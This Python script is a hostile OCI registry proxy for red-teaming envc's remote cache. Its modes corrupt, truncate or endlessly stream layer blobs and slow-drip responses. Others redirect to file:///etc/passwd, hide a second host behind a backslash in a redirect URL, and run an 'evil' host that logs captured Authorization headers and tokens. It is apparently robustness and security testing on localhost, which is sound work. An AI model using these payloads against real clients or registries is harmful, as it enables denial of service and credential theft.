#!/usr/bin/env python3
"""A hostile OCI registry for red-teaming envc's remote cache (an attack tool, not a test).

It proxies GET/HEAD of /v2/... to a real registry (--upstream HOST:PORT, anonymous) and
mutates answers according to --mode. Every request is logged to stderr (with its Authorization
header, to see where credentials go).

Modes (the blob ones only touch the layer blob, media type application/vnd.envc.layer.v1.tar+zstd):
  proxy            pass everything through
  swap-manifest    every tag gets the manifest of --swap-tag (replay of another layer's artifact)
  blob-flip        one byte of each layer blob flipped (same length)
  blob-truncate    the layer blob cut at half, Content-Length still the full size
  blob-endless     the layer blob without Content-Length, followed by endless zeros
  blob-hang        the layer blob's headers, then silence forever
  blob-drip        the layer blob at one byte every --drip seconds
  manifest-drip    the manifest at one byte every --drip seconds
  manifest-huge    a 64 MiB manifest without Content-Length (chunked)
  header-drip      the manifest's answer: one header line every --drip seconds, forever
  redirect-loop    every GET/HEAD redirects to itself
  redirect-file    every GET redirects to file:///etc/passwd
  redirect-bslash  asks Basic auth, then redirects blobs to http://127.0.0.1:EVIL\\@HOST:PORT/...
                   (host_of() sees HOST:PORT, the URL parser connects to EVIL)
  cdn-bearer       asks Basic auth, redirects blobs to a "CDN" (127.0.0.1:EVIL, another host),
                   which answers 401 Bearer realm=http://127.0.0.1:EVIL/token: does the registry's
                   Basic password reach the CDN's realm?
  bearer-loop      every request 401 Bearer realm=http://127.0.0.1:PORT/token; tokens change
"""
import argparse
import base64
import http.client
import http.server
import json
import socketserver
import sys
import threading
import time

BLOB_TYPE = "application/vnd.envc.layer.v1.tar+zstd"
A = None
layer_blobs = set()
token_n = [0]


def log(*a):
    print("[hostile]", *a, file=sys.stderr, flush=True)


def upstream(method, path, headers=None):
    c = http.client.HTTPConnection(A.upstream, timeout=30)
    h = {k: v for k, v in (headers or {}).items() if k.lower() in ("accept",)}
    c.request(method, path, headers=h)
    r = c.getresponse()
    body = r.read() if method != "HEAD" else b""
    return r.status, dict(r.getheaders()), body


class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, fmt, *args):
        pass

    def send(self, status, body=b"", headers=None, length=True):
        self.send_response(status)
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        if length:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def note(self):
        log(self.command, self.path, "Host:", self.headers.get("Host"),
            "Authorization:", self.headers.get("Authorization"))

    def want_basic(self):
        auth = self.headers.get("Authorization")
        if auth and auth.startswith("Basic "):
            return True
        self.send(401, b'{"errors":[{"code":"UNAUTHORIZED","message":"x"}]}',
                  {"WWW-Authenticate": 'Basic realm="hostile"'})
        return False

    def do_HEAD(self):
        self.do_GET()

    def do_GET(self):
        self.note()
        m = A.mode
        if self.server.role == "evil":
            return self.evil()
        if m == "redirect-loop":
            return self.send(302, b"", {"Location": self.path})
        if m == "redirect-file":
            return self.send(302, b"", {"Location": "file:///etc/passwd"})
        if m == "bearer-loop":
            if self.path.startswith("/token"):
                token_n[0] += 1
                return self.send(200, json.dumps({"token": "t%d" % token_n[0]}).encode())
            return self.send(401, b"", {"WWW-Authenticate":
                                        'Bearer realm="http://127.0.0.1:%d/token",service="x"' % A.port})
        if m in ("redirect-bslash", "cdn-bearer") and not self.want_basic():
            return
        if self.path == "/v2/" or self.path == "/v2":
            return self.send(200, b"{}")
        is_manifest = "/manifests/" in self.path
        is_blob = "/blobs/" in self.path
        if is_manifest and m == "swap-manifest":
            repo = self.path.split("/manifests/")[0]
            self.path = repo + "/manifests/" + A.swap_tag
        if is_manifest and m == "header-drip":
            self.send_response(200)
            i = 0
            while True:
                self.send_header("X-Drip-%d" % i, "x")
                self.wfile.flush()
                i += 1
                time.sleep(A.drip)
        if is_manifest and m == "manifest-huge":
            self.send_response(200)
            self.send_header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            chunk = b" " * 65536
            try:
                for _ in range(1024):
                    self.wfile.write(b"%x\r\n" % len(chunk) + chunk + b"\r\n")
                self.wfile.write(b"0\r\n\r\n")
            except OSError as e:
                log("manifest-huge: client went away:", e)
            return
        status, headers, body = upstream(self.command, self.path, dict(self.headers))
        if is_manifest and status == 200 and self.command == "GET":
            try:
                for l in json.loads(body).get("layers", []):
                    if l.get("mediaType") == BLOB_TYPE:
                        layer_blobs.add(l["digest"])
            except ValueError:
                pass
        keep = {k: v for k, v in headers.items()
                if k.lower() in ("content-type", "docker-content-digest")}
        digest = self.path.rsplit("/", 1)[-1]
        if is_manifest and m == "manifest-drip" and self.command == "GET":
            self.send_response(200)
            for k, v in keep.items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            for b in body:
                self.wfile.write(bytes([b]))
                self.wfile.flush()
                time.sleep(A.drip)
            return
        if is_blob and digest in layer_blobs and self.command == "GET" and status == 200:
            if m == "blob-flip":
                body = bytearray(body)
                body[len(body) // 2] ^= 0xFF
                return self.send(200, bytes(body), keep)
            if m == "blob-truncate":
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body[: len(body) // 2])
                self.wfile.flush()
                self.close_connection = True
                return
            if m == "blob-endless":
                self.send_response(200)
                self.send_header("Connection", "close")
                self.end_headers()
                self.close_connection = True
                try:
                    self.wfile.write(body)
                    z = b"\0" * 65536
                    n = 0
                    while True:
                        self.wfile.write(z)
                        n += 1
                except OSError:
                    log("blob-endless: client closed after %d MiB of zeros" % (n // 16))
                return
            if m == "blob-hang":
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.flush()
                time.sleep(10**6)
            if m == "blob-drip":
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                for b in body:
                    self.wfile.write(bytes([b]))
                    self.wfile.flush()
                    time.sleep(A.drip)
                return
            if m == "redirect-bslash":
                loc = "http://127.0.0.1:%d\\@127.0.0.1:%d%s" % (A.evil, A.port, self.path)
                return self.send(307, b"", {"Location": loc})
            if m == "cdn-bearer":
                return self.send(307, b"", {"Location": "http://127.0.0.1:%d%s" % (A.evil, self.path)})
        self.send(status, body, keep)

    def evil(self):
        # The "CDN" or the attacker's host.
        if self.path.startswith("/token"):
            log("EVIL got a token request with Authorization:", self.headers.get("Authorization"))
            return self.send(200, json.dumps({"token": "stolen"}).encode())
        if A.mode == "cdn-bearer":
            return self.send(401, b"", {"WWW-Authenticate":
                                        'Bearer realm="http://127.0.0.1:%d/token",service="cdn"' % A.evil})
        log("EVIL got", self.path, "with Authorization:", self.headers.get("Authorization"))
        self.send(404, b"")


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True


def main():
    global A
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--upstream", default="127.0.0.1:5000")
    p.add_argument("--mode", default="proxy")
    p.add_argument("--swap-tag", default="")
    p.add_argument("--drip", type=float, default=50.0)
    p.add_argument("--evil", type=int, default=0)
    A = p.parse_args()
    s = Server(("127.0.0.1", A.port), H)
    s.role = "registry"
    if A.evil:
        e = Server(("127.0.0.1", A.evil), H)
        e.role = "evil"
        threading.Thread(target=e.serve_forever, daemon=True).start()
    log("mode", A.mode, "on", A.port, "upstream", A.upstream)
    s.serve_forever()


if __name__ == "__main__":
    main()
